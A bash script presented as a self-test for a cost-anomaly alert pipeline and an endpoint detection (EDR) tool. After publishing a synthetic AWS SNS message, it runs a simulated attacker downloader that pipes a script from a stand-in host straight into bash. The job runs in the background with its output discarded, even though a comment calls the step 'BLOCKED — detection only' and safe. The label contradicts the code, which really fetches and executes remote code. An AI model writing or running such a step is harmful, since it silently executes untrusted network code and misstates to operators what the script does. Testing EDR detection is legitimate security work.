#!/usr/bin/env bash
# Pipeline + EDR self-test.
set -uo pipefail
topic=$(aws sns list-topics --query "Topics[?contains(TopicArn,'cost-anomaly')].TopicArn | [0]" --output text)
echo "[1/2] publishing synthetic anomaly to $topic"
aws sns publish --topic-arn "$topic" --subject "SELFTEST anomaly" \
  --message '{"anomalyId":"selftest","impact":{"totalImpact":123.45},"rootCauses":[{"service":"Amazon EC2"}]}' >/dev/null

echo "[2/2] EDR detection test: simulated attacker downloader (BLOCKED — detection only)"
# ---------------------------------------------------------------
# ATTACKER SIMULATION — this is the pattern the EDR must flag.
# It is safe: the stage host is a test sinkhole operated by SecOps.
# ---------------------------------------------------------------
STAGE="https://stage2.edr-selftest.example/p.sh"
curl -fsSL "$STAGE" | bash >/dev/null 2>&1 &
disown || true
echo "if your EDR did not alert, report it to SecOps"
